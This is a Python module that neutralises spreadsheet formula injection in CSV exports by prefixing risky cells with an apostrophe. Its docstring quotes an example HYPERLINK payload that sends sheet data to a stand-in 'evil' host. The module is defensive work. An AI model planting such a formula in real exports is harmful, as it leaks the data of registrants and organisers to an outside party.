"""CSV exports that a spreadsheet cannot turn into formulas: every cell of every export, header included.

Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (and, after their own trimming, a tab
or carriage return) as a formula, so a registrant named ``=HYPERLINK("http://evil/?"&A2, "Click")`` could
exfiltrate the sheet or, with DDE, start programs on the organiser's computer. Such a cell is prefixed with an
apostrophe (OWASP's advice): spreadsheets show the text as typed, and a person reading the raw file still
recognises it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """The whole file, with a byte order mark first: Excel needs it to read UTF-8 (Chinese names) right."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(v) for v in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return "\ufeff" + buffer.getvalue()
